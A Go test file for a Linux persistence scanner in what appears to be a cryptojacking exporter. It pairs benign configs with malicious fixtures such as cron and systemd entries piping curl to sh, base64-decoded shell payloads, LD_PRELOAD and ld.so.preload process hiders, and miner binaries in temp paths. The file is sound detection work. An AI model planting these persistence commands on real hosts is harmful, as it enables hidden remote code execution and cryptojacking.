package persistence

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/cryptojack-exporter/cryptojack_exporter/internal/model"
	"github.com/cryptojack-exporter/cryptojack_exporter/internal/passwd"
)

// TestKinds gives each place something evil and its benign counterpart.
func TestKinds(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		path, benign, evil string
		want               model.PersistenceEntry // what evil gives; Path is filled in
	}{
		{
			"/etc/crontab", "SHELL=/bin/sh\n# m h dom\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n",
			"*/10 * * * * www-data curl http://x/a.sh | bash\n",
			model.PersistenceEntry{Kind: model.PersistenceCrontab, Line: 1, User: "www-data", Command: "curl http://x/a.sh | bash", Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x/a.sh | bash"},
		},
		{
			"/etc/cron.d/job", "@daily root /usr/bin/x > /tmp/log\n", "\n@reboot root /tmp/x\n",
			model.PersistenceEntry{Kind: model.PersistenceCrontab, Line: 2, User: "root", Command: "/tmp/x", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
		},
		{
			"/var/spool/cron/crontabs/eve", "0 3 * * 1-5 ~/bin/backup\n", "* * * * * ~/.x/../.y >/dev/null\n",
			model.PersistenceEntry{Kind: model.PersistenceUserCrontab, Line: 1, User: "eve", Command: "~/.x/../.y >/dev/null", Programs: []string{"/home/eve/.y"}, Reason: model.PersistenceHiddenPath, Evidence: "~/.x/../.y"},
		},
		{
			"/var/spool/cron/eve", "0 3 * * * /usr/bin/printf 100\\% | /usr/bin/cat\n", "* * * * * sh%curl http://x|sh%\n",
			model.PersistenceEntry{Kind: model.PersistenceUserCrontab, Line: 1, User: "eve", Command: "sh%curl http://x|sh%", Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x|sh"},
		},
		{
			"/etc/cron.daily/job", "#!/bin/sh\nfind /tmp -delete\n", "#!/bin/sh\nset -e\nif true; then\n  nohup /dev/shm/x &\nfi\n",
			model.PersistenceEntry{Kind: model.PersistenceCronScript, Line: 4, User: "root", Command: "nohup /dev/shm/x &", Programs: []string{"/dev/shm/x"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x"},
		},
		{
			"/etc/anacrontab", "PATH=/bin\n7 10 cron.weekly run-parts /etc/cron.weekly\n", "@monthly 15 job echo eA== | base64 -d | sh\n",
			model.PersistenceEntry{Kind: model.PersistenceAnacron, Line: 1, User: "root", Command: "echo eA== | base64 -d | sh", Reason: model.PersistenceDecodeRun, Evidence: "echo eA== | base64 -d | sh", Decoded: "x"},
		},
		{
			"/etc/cron.d/encoded", "@daily root echo aGVsbG8= | base64 -d > /etc/motd\n", "@daily root echo L3RtcC94IC1h | base64 -d | sh\n",
			model.PersistenceEntry{Kind: model.PersistenceCrontab, Line: 1, User: "root", Command: "echo L3RtcC94IC1h | base64 -d | sh", Programs: []string{"/tmp/x"}, Reason: model.PersistenceDecodeRun, Evidence: "echo L3RtcC94IC1h | base64 -d | sh", Decoded: "/tmp/x -a"},
		},
		{
			"/var/spool/cron/atjobs/a0001", "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail eve 0\numask 22\ncd /tmp || exit 1\n/usr/bin/true\n",
			"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail eve 0\nA=b; export A\n${SHELL:-/bin/sh} << 'marcin'\n/tmp/x\nmarcin\n",
			model.PersistenceEntry{Kind: model.PersistenceAt, Line: 5, User: "eve", Command: "${SHELL:-/bin/sh} << 'marcin'", Programs: []string{"/bin/sh", "/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
		},
		{
			"/etc/systemd/system/a.service", "[Service]\nUser=app\nExecStartPre=-/bin/mkdir -p /tmp/app\nExecStart=/opt/app/.venv/bin/python -m app\n",
			"[Unit]\n[Service]\nUser=app\nExecStartPre=/bin/true\nExecStart=-@/bin/bash name -c 'curl http://x | \\\n sh'\n",
			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "app", Unit: "a.service", Command: "/bin/bash -c 'curl http://x |   sh'", Programs: []string{"/bin/true", "/bin/bash"}, Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x |   sh"},
		},
		{
			"/etc/systemd/system/b.service.d/x.conf", "[Service]\nLimitNOFILE=1\n", "[Service]\nExecStartPost=+%T/x\n",
			model.PersistenceEntry{Kind: model.PersistenceSystemdService, Unit: "b.service", Command: "/tmp/x", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
		},
		{
			"/etc/systemd/system/service.d/x.conf", "[Service]\nLimitNOFILE=1\n", "[Service]\nExecStartPre=/dev/shm/x\n",
			model.PersistenceEntry{Kind: model.PersistenceSystemdService, Unit: "service", Command: "/dev/shm/x", Programs: []string{"/dev/shm/x"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x"},
		},
		{
			"/home/eve/.config/systemd/user/c.service", "[Service]\nExecStart=%h/.local/bin/tool\n", "this line is broken\n[Service]\nso is this\nExecStart=%h/kdevtmpfsi\n",
			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "eve", Unit: "c.service", Command: "/home/eve/kdevtmpfsi", Programs: []string{"/home/eve/kdevtmpfsi"}, Reason: model.PersistenceKnownMiner, Evidence: "/home/eve/kdevtmpfsi"},
		},
		{
			"/etc/systemd/system/a.socket", "[Socket]\nListenStream=80\nExecStartPre=/usr/bin/install -d /run/a\n", "[Socket]\nListenStream=80\nExecStartPost=-/tmp/x --a\n",
			model.PersistenceEntry{Kind: model.PersistenceSystemdPath, User: "root", Unit: "a.socket", Starts: "a.service", Command: "/tmp/x --a", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
		},
		{
			"/usr/lib/systemd/system/proc-1.mount", "[Mount]\nWhat=binfmt_misc\nWhere=/proc/sys/fs/binfmt_misc\nType=binfmt_misc\n", "[Mount]\nWhat=/var/empty\nWhere=/proc/4711\nOptions=bind\n",
			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "root", Unit: "proc-1.mount", Command: "mount -o bind /var/empty /proc/4711", Reason: model.PersistenceMountOver, Evidence: "/proc/4711"},
		},
		{
			"/etc/systemd/system/opt-y.mount", "[Mount]\nWhat=//server/share\nWhere=/opt/y\nType=fuse.sshfs\nOptions=ro,uid=0\n", "[Mount]\nWhat=%V/.x.img\nWhere=/opt/y\n",
			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "root", Unit: "opt-y.mount", Command: "mount /var/tmp/.x.img /opt/y", Reason: model.PersistenceMountOver, Evidence: "/opt/y"},
		},
		{
			"/etc/systemd/system/mnt.mount", "[Mount]\nWhat=/dev/sda1\nWhere=/mnt\n", "[Mount]\nWhat=/dev/shm/x\\x23a\nWhere=/mnt\nType=fuse\n",
			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "root", Unit: "mnt.mount", Command: "mount -t fuse /dev/shm/x#a /mnt", Programs: []string{"/dev/shm/x"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x"},
		},
		{
			"/etc/systemd/system-generators/a", "#!/bin/sh\nln -s /usr/lib/systemd/system/x.service \"$1/x.service\"\n", "#!/bin/sh\n/var/tmp/x &\n",
			model.PersistenceEntry{Kind: model.PersistenceGenerator, Line: 2, User: "root", Command: "/var/tmp/x &", Programs: []string{"/var/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/var/tmp/x"},
		},
		{
			"/usr/lib/systemd/user-environment-generators/90a", "#!/bin/sh\necho GNOME=1\n", "#!/bin/sh\ncurl http://x | sh\n",
			model.PersistenceEntry{Kind: model.PersistenceGenerator, Line: 2, Command: "curl http://x | sh", Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x | sh"},
		},
		{
			"/etc/rc.local", "#!/bin/sh -e\nexit 0\n", "/tmp/x &\nexit 0\n",
			model.PersistenceEntry{Kind: model.PersistenceInit, Line: 1, User: "root", Command: "/tmp/x &", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
		},
		{
			"/etc/inittab", "id:2:initdefault:\n1:2345:respawn:/sbin/getty 38400 tty1\n", "x:2345:respawn:/etc/.x\n",
			model.PersistenceEntry{Kind: model.PersistenceInit, Line: 1, User: "root", Command: "/etc/.x", Programs: []string{"/etc/.x"}, Reason: model.PersistenceHiddenPath, Evidence: "/etc/.x"},
		},
		{
			"/home/eve/.bashrc", ". ~/.bash_aliases\n. \"$HOME/.cargo/env\"\n", "alias ls='ls --color'\n/var/tmp/x &\n",
			model.PersistenceEntry{Kind: model.PersistenceProfile, Line: 2, User: "eve", Command: "/var/tmp/x &", Programs: []string{"/var/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/var/tmp/x"},
		},
		{
			"/etc/profile.d/x.sh", "export PATH=$PATH:/opt/bin\n", "export LD_PRELOAD=/dev/shm/x.so\n",
			model.PersistenceEntry{Kind: model.PersistenceProfile, Line: 1, Command: "export LD_PRELOAD=/dev/shm/x.so", Programs: []string{"/dev/shm/x.so"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x.so"},
		},
		{
			"/home/eve/.config/environment.d/x.conf", "PATH=$HOME/bin:$PATH\n", "A=b\nLD_PRELOAD=/dev/shm/x.so\n",
			model.PersistenceEntry{Kind: model.PersistenceProfile, Line: 2, User: "eve", Command: "LD_PRELOAD=/dev/shm/x.so", Programs: []string{"/dev/shm/x.so"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x.so"},
		},
		{
			"/home/eve/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/usr/bin/x %U\n", "[Desktop Entry]\nName=X\nExec=sh -c \"curl http://x | sh\"\n",
			model.PersistenceEntry{Kind: model.PersistenceAutostart, Line: 3, User: "eve", Command: `sh -c "curl http://x | sh"`, Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x | sh"},
		},
		{
			"/etc/ld.so.preload", "# nothing\n", "/usr/local/lib/libprocesshider.so\n",
			model.PersistenceEntry{Kind: model.PersistencePreload, Line: 1, Command: "/usr/local/lib/libprocesshider.so", Programs: []string{"/usr/local/lib/libprocesshider.so"}, Reason: model.PersistencePreloaded, Evidence: "/usr/local/lib/libprocesshider.so"},
		},
		{
			"/etc/udev/rules.d/x.rules", "ACTION==\"add\", RUN+=\"/sbin/modprobe -b x\"\nKERNEL==\"sda\", MODE=\"0660\"\n",
			"SUBSYSTEM==\"net\", \\\n  RUN+=\"/bin/sh -c '/tmp/x &'\"\n",
			model.PersistenceEntry{Kind: model.PersistenceUdev, Line: 1, User: "root", Command: "/bin/sh -c '/tmp/x &'", Programs: []string{"/bin/sh", "/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
		},
	} {
		t.Run(strings.Trim(test.path, "/"), func(t *testing.T) {
			t.Parallel()
			f := newFixture(t)
			f.write(test.path, test.benign)
			if bad := suspicious(f.sample()); len(bad) > 0 {
				t.Errorf("harmless: %+v", bad)
			}
			f.remove(test.path)
			f.write(test.path, test.evil)
			test.want.Path = test.path
			if test.want.Line > 0 {
				sum := sha256.Sum256([]byte(test.evil))
				test.want.FileHash = hex.EncodeToString(sum[:])[:12]
			}
			switch {
			case strings.Contains(test.path, "eve"):
				test.want.Owner = "eve"
			case test.want.Kind == model.PersistenceAt && os.Getuid() != 0:
				test.want.Owner = passwd.Number(uint32(os.Getuid()))
			}
			if test.want.Kind == model.PersistenceCronScript || test.want.Kind == model.PersistenceInit || test.want.Kind == model.PersistenceGenerator {
				f.must(os.Chmod(f.path(test.path), 0o755))
			}
			if diff := cmp.Diff([]model.PersistenceEntry{test.want}, suspicious(f.sample())); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestTimersAndPathsNameTheirUnit(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.write("/etc/systemd/system/a.timer", "[Timer]\nOnBootSec=1\n")
	f.write("/usr/lib/systemd/system/b.path", "[Path]\nPathExists=/x\nUnit=other.service\n")
	f.write("/usr/lib/systemd/system/other.service", "[Service]\nExecStart=/usr/bin/x\n")
	f.must(os.Symlink("/usr/lib/systemd/system/other.service", f.path("/etc/systemd/system/alias.service")))
	f.must(os.Symlink("/dev/null", f.path("/etc/systemd/system/masked.service")))
	f.must(os.Symlink("usr/lib", f.path("/lib")))
	f.write("/etc/systemd/system/multi-user.target.wants/c.service", "[Service]\nExecStart=/tmp/x\n")
	got := map[string]string{}
	for _, e := range f.sample().Entries {
		got[e.Unit] = e.Command
	}
	if diff := cmp.Diff(map[string]string{"a.timer": "a.service", "b.path": "other.service", "other.service": "/usr/bin/x"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestKeysAreNotKept(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.write("/home/eve/.ssh/authorized_keys", "# mine\nssh-ed25519 AAAAC3NzaSECRET eve@home\ncommand=\"x\",no-pty ssh-rsa AAAAB3NzSECRET\nSECRET\n")
	s := f.sample()
	if got := s.Counts[model.PersistenceAuthorizedKeys]; got != 3 {
		t.Errorf("%d keys", got)
	}
	for _, r := range f.sensor.records {
		for _, e := range r.entries {
			if strings.Contains(e.Command+e.Evidence, "SECRET") {
				t.Errorf("%+v", e)
			}
		}
	}
}

func TestModulesAreCounted(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.write("/etc/modules-load.d/x.conf", "# c\nloop\n\nmsr\n")
	if got := f.sample().Counts[model.PersistenceModules]; got != 2 {
		t.Errorf("%d modules", got)
	}
}

func TestEntryForEachLineOfAScript(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.write("/etc/rc.local", "#!/bin/sh\n/tmp/a\necho\n/tmp/b\n")
	s := f.sample()
	if got := len(suspicious(s)); got != 2 || s.Counts[model.PersistenceInit] != 1 {
		t.Errorf("%d lines of %d files", got, s.Counts[model.PersistenceInit])
	}
	f.write("/etc/cron.daily/p", "#!/usr/bin/python3\nimport os\nos.system('curl http://x | sh')\nopen('/tmp/x')\n")
	if got := suspicious(f.sample()); len(got) != 3 || got[0].Line != 3 || got[0].Reason != model.PersistenceFetchAndRun {
		t.Errorf("%+v", got)
	}
}
